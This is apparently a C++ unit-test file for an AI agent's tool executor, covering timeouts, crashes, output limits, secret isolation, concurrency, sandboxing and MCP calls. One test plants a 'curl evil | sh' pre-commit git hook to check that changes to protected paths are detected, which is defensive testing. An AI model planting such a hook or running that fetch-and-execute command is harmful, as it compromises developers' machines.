#include "executor/executor.h"

#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <thread>

#include "executor/call_order.h"
#include "spawning/test_processes.h"
#include "testing/tool_runner.h"

namespace ikigai::executor {
namespace {

using protocol::WrappedJson;

using ikigai::testing::TempDir;
using nlohmann::json;
using spawning::test::Script;
using std::chrono::milliseconds;

// A directory of fault tools, and a registry of them.
class ExecutorTest : public ::testing::Test {
 protected:
  // Registers a /bin/sh tool; its body may use $DIR (this test's directory).
  void AddTool(const std::string& name, const std::string& body) {
    Tool(name, Script(dir_, name + "-tool", "DIR=" + dir_.path() + "\n" + body));
  }
  // A tool that says it only reads (readOnlyHint), so that its calls may run
  // at once.
  void AddReader(const std::string& name, const std::string& body) {
    AddTool(name, body);
    tools_.back().schema.annotations = {{"readOnlyHint", true}};
  }
  void Tool(const std::string& name, const std::string& path) {
    registry::Tool tool;
    tool.name = name;
    tool.path = path;
    tool.source = registry::Source::kProject;
    tool.schema.name = name;
    tools_.push_back(std::move(tool));
  }
  registry::Registry Registry() const { return registry::Registry(tools_, {}); }

  std::vector<CallResult> Run(const std::vector<Call>& calls, ExecutorOptions options = {},
                              int cancel_fd = -1) {
    return Executor(std::move(options)).Run(Registry(), calls, cancel_fd);
  }
  json RunOne(const std::string& tool, json arguments = json::object(),
              ExecutorOptions options = {}) {
    auto results = Run({{"call-1", tool, std::move(arguments)}}, std::move(options));
    EXPECT_EQ(results.size(), 1u);
    EXPECT_EQ(results.at(0).id, "call-1");
    return results.at(0).wrapped;
  }
  static ExecutorOptions WithTimeout(milliseconds timeout) {
    ExecutorOptions options;
    options.defaults.timeout = timeout;
    return options;
  }

  TempDir dir_;
  std::vector<registry::Tool> tools_;
};

TEST_F(ExecutorTest, WrapsTheObjectAGoodToolPrints) {
  AddTool("good", R"(printf '{"echo":'; cat; printf '}\n')");
  const json wrapped = RunOne("good", {{"text", "hi"}, {"n", 2}});
  EXPECT_EQ(wrapped, WrappedJson::parse(R"({"tool_success": true,
                                     "result": {"echo": {"text": "hi", "n": 2}}})"));
}

TEST_F(ExecutorTest, RoundTripsAMegabyteOfArguments) {
  AddTool("good", R"(printf '{"echo":'; cat; printf '}')");
  std::string text(1 << 20, ' ');
  for (std::size_t i = 0; i < text.size(); ++i) text[i] = static_cast<char>('a' + i % 26);
  ExecutorOptions options;
  options.per_tool["good"].output_limit = 2 << 20;
  const json wrapped = RunOne("good", {{"text", text}}, options);
  ASSERT_EQ(wrapped["tool_success"], true) << wrapped.dump().substr(0, 500);
  EXPECT_TRUE(wrapped["result"]["echo"]["text"] == text);
}

TEST_F(ExecutorTest, ToolThatNeverReadsAMegabyteOfArgumentsFinishes) {
  AddTool("deaf", R"(sleep 0.1; printf '{"ok": true}')");
  const json wrapped = RunOne("deaf", {{"text", std::string(1 << 20, 'x')}});
  EXPECT_EQ(wrapped, WrappedJson::parse(R"({"tool_success": true, "result": {"ok": true}})"));
}

TEST_F(ExecutorTest, UnknownToolNamesTheAvailableOnes) {
  AddTool("zeta", "printf '{}'");
  AddTool("alpha", "printf '{}'");
  const json wrapped = RunOne("foo");
  EXPECT_EQ(wrapped["tool_success"], false);
  EXPECT_EQ(wrapped["error_code"], "TOOL_NOT_FOUND");
  EXPECT_EQ(wrapped["error"], "Tool 'foo' not found. Available tools: alpha, zeta.");
}

TEST_F(ExecutorTest, ArgumentsMustBeAnObject) {
  AddTool("marker", "touch $DIR/ran; printf '{}'");
  const json wrapped = RunOne("marker", json::array({1, 2}));
  EXPECT_EQ(wrapped["tool_success"], false);
  EXPECT_EQ(wrapped["error_code"], "INVALID_PARAMS");
  EXPECT_NE(wrapped["error"].get<std::string>().find("must be a JSON object, not array"),
            std::string::npos)
      << wrapped;
  EXPECT_NE(::access((dir_ / "ran").c_str(), F_OK), 0);  // the tool did not run
}

TEST_F(ExecutorTest, TimeoutStopsTheToolAndItsChildren) {
  AddTool("sleepy", "printf partial; sleep 30 & echo $! > $DIR/pid; wait");
  const auto start = std::chrono::steady_clock::now();
  const json wrapped = RunOne("sleepy", json::object(), WithTimeout(milliseconds(300)));
  EXPECT_LT(std::chrono::steady_clock::now() - start, milliseconds(5000));
  EXPECT_EQ(wrapped["tool_success"], false);
  EXPECT_EQ(wrapped["error_code"], "TOOL_TIMEOUT");
  EXPECT_EQ(wrapped["error"].get<std::string>().rfind(
                "Tool 'sleepy' timed out after 300 ms; it was stopped.", 0),
            0u)
      << wrapped;
  EXPECT_NE(wrapped["error"].get<std::string>().find(
                "This is the host's deadline for the tool (tools.sleepy.timeout_ms in the "
                "configuration)"),
            std::string::npos)
      << wrapped;
  EXPECT_EQ(wrapped["stdout"], "partial");
  const pid_t sleeper = spawning::test::ReadPid(dir_ / "pid");
  ASSERT_GT(sleeper, 0);
  EXPECT_TRUE(spawning::test::DiesWithin(sleeper, milliseconds(2000)));
}

TEST_F(ExecutorTest, TimeoutMessageInSeconds) {
  AddTool("sleepy", "sleep 30");
  const json wrapped = RunOne("sleepy", json::object(), WithTimeout(milliseconds(1000)));
  EXPECT_EQ(wrapped["error"].get<std::string>().rfind(
                "Tool 'sleepy' timed out after 1 s; it was stopped.", 0),
            0u)
      << wrapped;
}

TEST_F(ExecutorTest, DeathBySignalIsACrash) {
  AddTool("segv", "kill -SEGV $$");
  const json wrapped = RunOne("segv");
  EXPECT_EQ(wrapped["tool_success"], false);
  EXPECT_EQ(wrapped["error_code"], "TOOL_CRASHED");
  EXPECT_EQ(wrapped["error"].get<std::string>().rfind(
                "Tool 'segv' was killed by signal 11 (SIGSEGV).", 0),
            0u)
      << wrapped;
  EXPECT_EQ(wrapped["exit_code"], 128 + 11);
}

TEST_F(ExecutorTest, NonZeroExitIsACrashWithStdoutAndStderr) {
  AddTool("three", "printf 'half an answer'; echo 'something broke' >&2; exit 3");
  const json wrapped = RunOne("three");
  EXPECT_EQ(wrapped["tool_success"], false);
  EXPECT_EQ(wrapped["error_code"], "TOOL_CRASHED");
  EXPECT_EQ(wrapped["error"].get<std::string>().rfind("Tool 'three' crashed with exit code 3.", 0),
            0u)
      << wrapped;
  EXPECT_EQ(wrapped["exit_code"], 3);
  EXPECT_EQ(wrapped["stdout"], "half an answer");
  EXPECT_EQ(wrapped["stderr"], "something broke\n");
}

TEST_F(ExecutorTest, StderrIsCappedAt8KB) {
  AddTool("noisy", "head -c 100000 /dev/zero | tr '\\0' e >&2; exit 1");
  const json wrapped = RunOne("noisy");
  EXPECT_EQ(wrapped["error_code"], "TOOL_CRASHED");
  EXPECT_EQ(wrapped["stderr"], std::string(8 * 1024, 'e'));
}

TEST_F(ExecutorTest, NonJsonOutputIsInvalid) {
  AddTool("prose", "echo 'Here is your answer: 42'");
  const json wrapped = RunOne("prose");
  EXPECT_EQ(wrapped["tool_success"], false);
  EXPECT_EQ(wrapped["error_code"], "INVALID_OUTPUT");
  EXPECT_EQ(wrapped["stdout"], "Here is your answer: 42\n");
  EXPECT_TRUE(wrapped.contains("stderr"));
}

TEST_F(ExecutorTest, TwoObjectsAreInvalid) {
  AddTool("twice", R"(echo '{"a": 1}'; echo '{"b": 2}')");
  const json wrapped = RunOne("twice");
  EXPECT_EQ(wrapped["error_code"], "INVALID_OUTPUT");
  EXPECT_EQ(wrapped["stdout"], "{\"a\": 1}\n{\"b\": 2}\n");
}

TEST_F(ExecutorTest, AJsonValueThatIsNotAnObjectIsInvalid) {
  AddTool("array", "echo '[1, 2]'");
  const json wrapped = RunOne("array");
  EXPECT_EQ(wrapped["error_code"], "INVALID_OUTPUT");
  EXPECT_NE(wrapped["error"].get<std::string>().find("printed a JSON array, not an object"),
            std::string::npos)
      << wrapped;
}

TEST_F(ExecutorTest, InvalidOutputShowsOnlyTheStartOfStdout) {
  AddTool("verbose", "head -c 30000 /dev/zero | tr '\\0' v");
  const json wrapped = RunOne("verbose");
  EXPECT_EQ(wrapped["error_code"], "INVALID_OUTPUT");
  EXPECT_EQ(wrapped["stdout"], std::string(2048, 'v'));
}

TEST_F(ExecutorTest, SurroundingWhitespaceIsFineAndInvalidUtf8IsRepaired) {
  AddTool("latin1", R"(printf '\n  {"name": "caf\351"}  \n\n')");
  const json wrapped = RunOne("latin1");
  ASSERT_EQ(wrapped["tool_success"], true) << wrapped;
  EXPECT_EQ(wrapped["result"]["name"], "caf\xEF\xBF\xBD");
}

TEST_F(ExecutorTest, TenMegabytesIsTooLarge) {
  AddTool("flood", "head -c 10000000 /dev/zero | tr '\\0' x; sleep 30");
  const auto start = std::chrono::steady_clock::now();
  const json wrapped = RunOne("flood");
  EXPECT_LT(std::chrono::steady_clock::now() - start, milliseconds(5000));
  EXPECT_EQ(wrapped["tool_success"], false);
  EXPECT_EQ(wrapped["error_code"], "OUTPUT_TOO_LARGE");
  EXPECT_EQ(wrapped["error"].get<std::string>().rfind(
                "Tool 'flood' printed more than 64 KB; it was stopped and its output dropped.", 0),
            0u)
      << wrapped;
  EXPECT_FALSE(wrapped.contains("stdout"));
}

TEST_F(ExecutorTest, BackgroundChildHoldingStdoutDoesNotDelayTheResult) {
  AddTool("forker", "(sleep 30 & echo $! > $DIR/pid); printf '{\"done\": true}'");
  const auto start = std::chrono::steady_clock::now();
  const json wrapped = RunOne("forker");
  EXPECT_LT(std::chrono::steady_clock::now() - start, milliseconds(5000));
  EXPECT_EQ(wrapped, WrappedJson::parse(R"({"tool_success": true, "result": {"done": true}})"));
  const pid_t sleeper = spawning::test::ReadPid(dir_ / "pid");
  ASSERT_GT(sleeper, 0);
  EXPECT_TRUE(spawning::test::DiesWithin(sleeper, milliseconds(2000)));
}

TEST_F(ExecutorTest, ClosingStdoutEarly) {
  AddTool("mute", "exec 1>&-; sleep 0.2");
  AddTool("terse", "printf '{\"said\": 1}'; exec 1>&-; sleep 0.2");
  auto results = Run({{"a", "mute", json::object()}, {"b", "terse", json::object()}});
  ASSERT_EQ(results.size(), 2u);
  EXPECT_EQ(results[0].wrapped["error_code"], "INVALID_OUTPUT");
  EXPECT_NE(results[0].wrapped["error"].get<std::string>().find("printed nothing"),
            std::string::npos);
  EXPECT_EQ(results[1].wrapped,
            WrappedJson::parse(R"({"tool_success": true, "result": {"said": 1}})"));
}

TEST_F(ExecutorTest, ToolKnowsItsDeadline) {
  AddTool("clock", R"(printf '{"deadline": "%s"}' "$IKIGAI_TOOL_DEADLINE_MS")");
  const json wrapped = RunOne("clock", json::object(), WithTimeout(milliseconds(1234)));
  EXPECT_EQ(wrapped["result"]["deadline"], "1234");
}

// A tool sees the secrets its schema names ("env"), never a provider's
// key, and its own settings; other tools see neither.
TEST_F(ExecutorTest, ASchemasEnvAndAToolsSettingsReachOnlyThatTool) {
  ::setenv("EXECUTOR_TEST_SEARCH_API_KEY", "s3cret", 1);
  ::setenv("ANTHROPIC_API_KEY", "provider-key", 1);
  const std::string body =
      R"(printf '{"search": "%s", "provider": "%s", "setting": "%s"}' )"
      R"("$EXECUTOR_TEST_SEARCH_API_KEY" "$ANTHROPIC_API_KEY" "$IKIGAI_SEARCHER_SETTING")";
  AddTool("searcher", body);
  tools_.back().schema.env = {"EXECUTOR_TEST_SEARCH_API_KEY", "ANTHROPIC_API_KEY"};
  AddTool("other", body);
  ExecutorOptions options;
  options.tool_env["searcher"] = {{"IKIGAI_SEARCHER_SETTING", "on"}};
  auto results = Run({{"a", "searcher", json::object()}, {"b", "other", json::object()}}, options);
  ::unsetenv("EXECUTOR_TEST_SEARCH_API_KEY");
  ::unsetenv("ANTHROPIC_API_KEY");
  ASSERT_EQ(results.size(), 2u);
  EXPECT_EQ(json::parse(results[0].wrapped["result"].dump()),
            (json{{"search", "s3cret"}, {"provider", ""}, {"setting", "on"}}));
  EXPECT_EQ(json::parse(results[1].wrapped["result"].dump()),
            (json{{"search", ""}, {"provider", ""}, {"setting", ""}}));
}

TEST_F(ExecutorTest, PerToolLimitsOverrideTheDefaults) {
  const std::string body = R"(printf '{"deadline": "%s", "pad": "' "$IKIGAI_TOOL_DEADLINE_MS"; )"
                           R"(head -c 100000 /dev/zero | tr '\0' p; printf '"}')";
  AddTool("big", body);
  AddTool("small", body);
  ExecutorOptions options;
  options.defaults.timeout = milliseconds(5000);
  options.per_tool["big"] = Limits{milliseconds(7000), 200 * 1024, 8 * 1024};
  const Executor executor(options);
  EXPECT_EQ(executor.LimitsFor("big").output_limit, 200u * 1024);
  EXPECT_EQ(executor.LimitsFor("small").output_limit, 64u * 1024);
  auto results =
      executor.Run(Registry(), {{"1", "big", json::object()}, {"2", "small", json::object()}});
  ASSERT_EQ(results.size(), 2u);
  ASSERT_EQ(results[0].wrapped["tool_success"], true) << results[0].wrapped.dump().substr(0, 300);
  EXPECT_EQ(results[0].wrapped["result"]["deadline"], "7000");
  EXPECT_EQ(results[1].wrapped["error_code"], "OUTPUT_TOO_LARGE");
}

TEST_F(ExecutorTest, HundredCallsAtOnceKeepTheirIdsAndOrder) {
  AddReader("nap", R"sh(sleep 0.2; printf '{"n": %s}' "$(cat)")sh");
  AddTool("quick", R"(printf '{"quick": true}')");
  std::vector<Call> calls;
  for (int i = 0; i < 100; ++i) {
    calls.push_back({"id-" + std::to_string(i), i % 10 == 9 ? "quick" : "nap", json(i)});
    if (i % 10 != 9) calls.back().arguments = {{"i", i}};
  }
  const auto start = std::chrono::steady_clock::now();
  const auto results = Run(calls);
  const auto took = std::chrono::steady_clock::now() - start;
  ASSERT_EQ(results.size(), 100u);
  for (int i = 0; i < 100; ++i) {
    const CallResult& r = results[i];
    EXPECT_EQ(r.id, "id-" + std::to_string(i));
    EXPECT_EQ(r.tool, calls[i].tool);
    if (i % 10 == 9) {
      // Arguments not an object (a bare number), answered without a process.
      EXPECT_EQ(r.wrapped["error_code"], "INVALID_PARAMS") << r.wrapped;
    } else {
      ASSERT_EQ(r.wrapped["tool_success"], true) << r.wrapped;
      EXPECT_EQ(r.wrapped["result"]["n"], calls[i].arguments);
      EXPECT_GT(r.elapsed, milliseconds(150));
    }
  }
  EXPECT_LT(took, milliseconds(15000));  // 18 s one after another
}

TEST_F(ExecutorTest, CancelStopsRunningCalls) {
  AddReader("sleepy", "sleep 30");
  AddReader("quick", "printf '{}'");
  int cancel[2];
  ASSERT_EQ(::pipe(cancel), 0);
  std::thread canceller([&] {
    std::this_thread::sleep_for(milliseconds(300));
    ASSERT_EQ(::write(cancel[1], "x", 1), 1);
  });
  const auto start = std::chrono::steady_clock::now();
  auto results = Run({{"1", "sleepy", json::object()},
                      {"2", "quick", json::object()},
                      {"3", "sleepy", json::object()}},
                     {}, cancel[0]);
  canceller.join();
  ::close(cancel[0]);
  ::close(cancel[1]);
  EXPECT_LT(std::chrono::steady_clock::now() - start, milliseconds(5000));
  ASSERT_EQ(results.size(), 3u);
  EXPECT_EQ(results[0].wrapped["error_code"], "CANCELLED");
  EXPECT_EQ(results[0].wrapped["tool_success"], false);
  EXPECT_EQ(results[1].wrapped["tool_success"], true);
  EXPECT_EQ(results[2].wrapped["error_code"], "CANCELLED");
}

TEST_F(ExecutorTest, ToolThatCannotStartIsACrashWithTheReason) {
  Tool("gone", dir_ / "gone-tool");
  const json wrapped = RunOne("gone");
  EXPECT_EQ(wrapped["error_code"], "TOOL_CRASHED");
  EXPECT_NE(wrapped["error"].get<std::string>().find("exec " + (dir_ / "gone-tool") +
                                                     ": No such file or directory"),
            std::string::npos)
      << wrapped;
}

TEST_F(ExecutorTest, NoDescriptorsOrChildrenLeftAfterAThousandCalls) {
  AddTool("ok", R"(printf '{"ok": true}')");
  AddTool("bad", "exit 1");
  const std::size_t fds_before = spawning::test::OpenFdCount();
  int succeeded = 0;
  for (int batch = 0; batch < 10; ++batch) {
    std::vector<Call> calls;
    for (int i = 0; i < 100; ++i) {
      calls.push_back({std::to_string(i), i % 4 == 3 ? "bad" : "ok", json::object()});
    }
    for (const CallResult& r : Run(calls)) succeeded += r.wrapped["tool_success"] == true;
  }
  EXPECT_EQ(succeeded, 750);
  EXPECT_EQ(spawning::test::OpenFdCount(), fds_before);
  EXPECT_TRUE(spawning::test::ChildrenOf(::getpid()).empty());
  EXPECT_EQ(::waitpid(-1, nullptr, WNOHANG), -1);
  EXPECT_EQ(errno, ECHILD);
}

// A sandbox without Landlock (tier 0) confines nothing on disk, so these
// run the same on every kernel: what they check is the executor's part,
// each call's profile and the protected-path check; the kernel's part is
// the escape battery (src/sandbox/escape_test.cc).
std::shared_ptr<sandbox::Sandbox> TierZeroSandbox(const std::string& workspace) {
  sandbox::Settings settings;
  settings.workspace = workspace;
  settings.protected_paths = {workspace + "/.git/hooks", workspace + "/.git/config"};
  auto created = sandbox::Sandbox::Create(settings, sandbox::Support{0, false, "test"});
  EXPECT_TRUE(created) << created.error();
  return created ? std::shared_ptr<sandbox::Sandbox>(std::move(*created)) : nullptr;
}

TEST_F(ExecutorTest, EachCallGetsTheProfileItsChooserSaysAndItsDescription) {
  AddTool("probe", R"(printf '{"sandbox": %s}' "${IKIGAI_SANDBOX:-null}")");
  ExecutorOptions options;
  options.sandbox = TierZeroSandbox(dir_.path());
  options.profile_for = [](const registry::Tool&,
                           const Call& call) -> std::optional<sandbox::Profile> {
    const std::string want = call.arguments.value("want", "");
    if (want == "none") return std::nullopt;
    if (want == "read") return sandbox::Profile{sandbox::Access::kReadOnly, false};
    return sandbox::Profile{sandbox::Access::kWorkspaceWrite, true};
  };
  auto results = Executor(options).Run(Registry(), {{"1", "probe", {{"want", "read"}}},
                                                    {"2", "probe", {{"want", "write"}}},
                                                    {"3", "probe", {{"want", "none"}}}});
  ASSERT_EQ(results.size(), 3u);
  const json read = results[0].wrapped["result"]["sandbox"];
  EXPECT_EQ(read["access"], "read-only") << results[0].wrapped.dump();
  EXPECT_EQ(read["network"], false);
  const json write = results[1].wrapped["result"]["sandbox"];
  EXPECT_EQ(write["access"], "workspace-write") << results[1].wrapped.dump();
  EXPECT_EQ(write["network"], true);
  EXPECT_EQ(write["writable_roots"][0], dir_.path());
  EXPECT_TRUE(results[2].wrapped["result"]["sandbox"].is_null()) << results[2].wrapped.dump();
}

TEST_F(ExecutorTest, AWritingCallThatChangesAProtectedPathIsReported) {
  ASSERT_EQ(::mkdir((dir_.path() + "/.git").c_str(), 0755), 0);
  ASSERT_EQ(::mkdir((dir_.path() + "/.git/hooks").c_str(), 0755), 0);
  AddTool("plant", R"(echo 'curl evil | sh' > "$DIR/.git/hooks/pre-commit"; echo '{}')");
  AddTool("reader", R"(echo '{}')");
  AddTool("quiet", R"(echo '{}')");
  ExecutorOptions options;
  options.sandbox = TierZeroSandbox(dir_.path());
  options.profile_for = [](const registry::Tool& tool, const Call&) {
    return sandbox::Profile{
        tool.name == "reader" ? sandbox::Access::kReadOnly : sandbox::Access::kWorkspaceWrite,
        false};
  };
  auto results = Executor(options).Run(
      Registry(), {{"1", "plant", json::object()}, {"2", "reader", json::object()}});
  ASSERT_EQ(results.size(), 2u);
  const json& changed = results[0].wrapped["protected_paths_changed"];
  ASSERT_TRUE(changed.is_array()) << results[0].wrapped.dump();
  EXPECT_NE(std::find(changed.begin(), changed.end(), dir_.path() + "/.git/hooks/pre-commit"),
            changed.end())
      << changed.dump();
  EXPECT_NE(results[0].wrapped["warning"].get<std::string>().find("Do not change them"),
            std::string::npos);
  EXPECT_FALSE(results[1].wrapped.contains("protected_paths_changed"))
      << "a read-only call cannot have done it";

  // A batch that leaves them alone says nothing.
  auto quiet = Executor(options).Run(Registry(), {{"3", "quiet", json::object()}});
  EXPECT_FALSE(quiet[0].wrapped.contains("protected_paths_changed")) << quiet[0].wrapped.dump();
}

// The review's case: eight edits of eight lines of one file in one turn,
// each reading, changing and replacing the file. All eight must survive.
TEST_F(ExecutorTest, EightEditsOfOneFileInOneBatchAllSurvive) {
  Tool("file_edit", testing::ToolPath("file-edit"));
  const std::string file = dir_ / "lines.txt";
  std::string text;
  for (int i = 0; i < 8; ++i) text += "line " + std::to_string(i) + "\n";
  testing::WriteFile(file, text);
  std::vector<Call> calls;
  for (int i = 0; i < 8; ++i) {
    calls.push_back({std::to_string(i),
                     "file_edit",
                     {{"file_path", file},
                      {"old_string", "line " + std::to_string(i) + "\n"},
                      {"new_string", "edited " + std::to_string(i) + "\n"}}});
  }
  for (const CallResult& result : Run(calls)) {
    EXPECT_EQ(result.wrapped["result"]["replacements"], 1) << result.wrapped.dump();
  }
  std::string expected;
  for (int i = 0; i < 8; ++i) expected += "edited " + std::to_string(i) + "\n";
  EXPECT_EQ(testing::ReadFile(file), expected);
}

// The same through eight hard links of one file: eight names, one file.
TEST_F(ExecutorTest, EightEditsThroughEightHardLinksOfOneFileAllSurvive) {
  Tool("file_edit", testing::ToolPath("file-edit"));
  std::string text;
  for (int i = 0; i < 8; ++i) text += "line " + std::to_string(i) + "\n";
  testing::WriteFile(dir_ / "h0", text);
  for (int i = 1; i < 8; ++i) {
    ASSERT_EQ(::link((dir_ / "h0").c_str(), (dir_ / ("h" + std::to_string(i))).c_str()), 0);
  }
  std::vector<Call> calls;
  for (int i = 0; i < 8; ++i) {
    calls.push_back({std::to_string(i),
                     "file_edit",
                     {{"file_path", dir_ / ("h" + std::to_string(i))},
                      {"old_string", "line " + std::to_string(i) + "\n"},
                      {"new_string", "edited " + std::to_string(i) + "\n"}}});
  }
  for (const CallResult& result : Run(calls)) {
    EXPECT_EQ(result.wrapped["result"]["replacements"], 1) << result.wrapped.dump();
  }
  std::string expected;
  for (int i = 0; i < 8; ++i) expected += "edited " + std::to_string(i) + "\n";
  for (int i = 0; i < 8; ++i)
    EXPECT_EQ(testing::ReadFile(dir_ / ("h" + std::to_string(i))), expected);
}

// A tool that holds $DIR/busy while it runs: a second one at the same time
// finds it there and fails.
constexpr const char* kExclusive =
    R"(set -C; : > "$DIR/busy" || { echo '{"overlapped": true}'; exit 0; }
cat > /dev/null; sleep 0.05; rm -f "$DIR/busy"; echo '{"overlapped": false}')";

TEST_F(ExecutorTest, WritersOfOnePathNeverRunAtOnce) {
  AddTool("writer", kExclusive);
  std::vector<Call> calls;
  for (int i = 0; i < 6; ++i) calls.push_back({std::to_string(i), "writer", {{"path", "same"}}});
  for (const CallResult& result : Run(calls)) {
    EXPECT_EQ(result.wrapped["result"]["overlapped"], false) << result.wrapped.dump();
  }
}

TEST_F(ExecutorTest, AWriterThatNamesNoPathRunsAloneAndInOrder) {
  AddTool("writer", R"(cat > /dev/null; echo x >> "$DIR/order"; echo '{}')");
  AddTool("stamp", R"(n=$(wc -l < "$DIR/order"); cat > /dev/null; echo "{\"seen\": $n}")");
  testing::WriteFile(dir_ / "order", "");
  auto results = Run({{"1", "writer", json::object()},
                      {"2", "stamp", json::object()},
                      {"3", "writer", json::object()},
                      {"4", "stamp", json::object()}});
  EXPECT_EQ(results[1].wrapped["result"]["seen"], 1) << results[1].wrapped.dump();
  EXPECT_EQ(results[3].wrapped["result"]["seen"], 2) << results[3].wrapped.dump();
}

TEST_F(ExecutorTest, ReadersAndWritersOfOtherPathsRunAtOnce) {
  // Each waits (up to 20 s) for the other's mark: only together do both
  // finish in time, and then quickly.
  AddReader("reader",
            R"(cat > /dev/null; : > "$DIR/reader-ran"; i=0
while [ ! -e "$DIR/writer-ran" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done
[ -e "$DIR/writer-ran" ] && echo '{"met": true}' || echo '{"met": false}')");
  AddTool("writer",
          R"(cat > /dev/null; : > "$DIR/writer-ran"; i=0
while [ ! -e "$DIR/reader-ran" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done
[ -e "$DIR/reader-ran" ] && echo '{"met": true}' || echo '{"met": false}')");
  auto results = Run({{"1", "reader", {{"path", "a.txt"}}}, {"2", "writer", {{"path", "b.txt"}}}});
  EXPECT_EQ(results[0].wrapped["result"]["met"], true) << results[0].wrapped.dump();
  EXPECT_EQ(results[1].wrapped["result"]["met"], true) << results[1].wrapped.dump();
}

TEST_F(ExecutorTest, TheReadOnlyTestDecidesWhichCallsMayRunTogether) {
  // "meet" finishes well only beside another call of it; "writer" only alone.
  AddTool("meet", R"sh(cat > /dev/null; : > "$DIR/meet-$$"; i=0
while [ "$(ls "$DIR" | grep -c '^meet-')" -lt 2 ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done
[ "$(ls "$DIR" | grep -c '^meet-')" -ge 2 ] && echo '{"met": true}' || echo '{"met": false}')sh");
  AddTool("writer", kExclusive);
  ExecutorOptions options;
  options.is_read_only = [](const registry::Tool& tool, const Call&) {
    return tool.name == "meet";
  };
  for (const CallResult& result :
       Run({{"1", "meet", json::object()}, {"2", "meet", json::object()}}, options)) {
    EXPECT_EQ(result.wrapped["result"]["met"], true) << result.wrapped.dump();
  }
  for (const CallResult& result :
       Run({{"1", "writer", json::object()}, {"2", "writer", json::object()}}, options)) {
    EXPECT_EQ(result.wrapped["result"]["overlapped"], false) << result.wrapped.dump();
  }
}

TEST_F(ExecutorTest, CancellingStopsTheRunningCallAndStartsNoLaterOne) {
  AddTool("sleepy", R"(cat > /dev/null; : > "$DIR/started-$$"; sleep 30)");
  int cancel[2];
  ASSERT_EQ(::pipe(cancel), 0);
  std::thread canceller([&] {
    // Cancel once the first call has started.
    for (int i = 0; i < 2000 && testing::ListDir(dir_.path()).size() < 2; ++i) {
      std::this_thread::sleep_for(milliseconds(10));
    }
    ASSERT_EQ(::write(cancel[1], "x", 1), 1);
  });
  auto results =
      Run({{"1", "sleepy", json::object()}, {"2", "sleepy", json::object()}}, {}, cancel[0]);
  canceller.join();
  ::close(cancel[0]);
  ::close(cancel[1]);
  EXPECT_EQ(results[0].wrapped["error_code"], "CANCELLED");
  EXPECT_EQ(results[1].wrapped["error_code"], "CANCELLED");
  std::size_t started = 0;
  for (const auto& name : testing::ListDir(dir_.path())) started += name.starts_with("started-");
  EXPECT_EQ(started, 1u) << "the second call waited for the first and never started";
}

TEST_F(ExecutorTest, TwoNamesOfOneFileAreOnePath) {
  testing::WriteFile(dir_ / "real.txt", "");
  ASSERT_EQ(::symlink((dir_ / "real.txt").c_str(), (dir_ / "link.txt").c_str()), 0);
  EXPECT_EQ(NamedPath(dir_ / "link.txt"), NamedPath(dir_ / "real.txt"));
}

}  // namespace
}  // namespace ikigai::executor

namespace ikigai::executor {
namespace {

// Remote tools (MCP) go through RemoteTools, with the call's arguments and
// the batch's cancel descriptor, beside the process tools of the batch.
class RecordingRemote : public RemoteTools {
 public:
  protocol::WrappedJson Call(const registry::Tool& tool, const nlohmann::json& arguments,
                             int cancel_fd) override {
    std::lock_guard lock(mutex);
    calls.push_back(tool.mcp_tool + " " + arguments.dump());
    cancel_fds.push_back(cancel_fd);
    return protocol::WrapSuccess({{"output", "remote " + tool.mcp_tool}});
  }
  std::mutex mutex;
  std::vector<std::string> calls;
  std::vector<int> cancel_fds;
};

registry::Tool McpTool(const std::string& name, const std::string& remote_name) {
  registry::Tool tool;
  tool.name = name;
  tool.path = "mcp:srv";
  tool.source = registry::Source::kMcp;
  tool.mcp_server = "srv";
  tool.mcp_tool = remote_name;
  tool.schema.name = name;
  return tool;
}

TEST(ExecutorRemoteTools, AnMcpToolIsCalledThroughRemoteToolsBesideProcesses) {
  TempDir dir;
  registry::Tool local;
  local.name = "local";
  local.path = spawning::test::Script(dir, "local-tool", "cat >/dev/null; echo '{\"ok\": 1}'");
  local.source = registry::Source::kProject;
  const registry::Registry registry({McpTool("mcp__srv__echo", "echo"), local}, {});
  auto remote = std::make_shared<RecordingRemote>();
  ExecutorOptions options;
  options.remote_tools = remote;
  int cancel[2];
  ASSERT_EQ(::pipe(cancel), 0);
  const UniqueFd cancel_read(cancel[0]), cancel_write(cancel[1]);
  const auto results = Executor(options).Run(
      registry, {{"c1", "mcp__srv__echo", {{"message", "hi"}}}, {"c2", "local", json::object()}},
      cancel_read.get());
  ASSERT_EQ(results.size(), 2u);
  EXPECT_EQ(results[0].id, "c1");
  EXPECT_EQ(results[0].wrapped["result"]["output"], "remote echo");
  EXPECT_EQ(results[1].wrapped.value("result", WrappedJson::object()).value("ok", 0), 1)
      << results[1].wrapped.dump();
  EXPECT_EQ(remote->calls, std::vector<std::string>{"echo {\"message\":\"hi\"}"});
  EXPECT_EQ(remote->cancel_fds, std::vector<int>{cancel_read.get()});
}

TEST(ExecutorRemoteTools, WithoutRemoteToolsAnMcpCallFailsClearly) {
  const registry::Registry registry({McpTool("mcp__srv__echo", "echo")}, {});
  const auto results =
      Executor(ExecutorOptions{}).Run(registry, {{"c1", "mcp__srv__echo", json::object()}});
  EXPECT_EQ(results[0].wrapped["error_code"], "TOOL_NOT_FOUND");
  EXPECT_EQ(results[0].wrapped["error"],
            "Tool 'mcp__srv__echo' is an MCP tool and MCP servers are not available here. Use "
            "another tool.");
}

}  // namespace
}  // namespace ikigai::executor
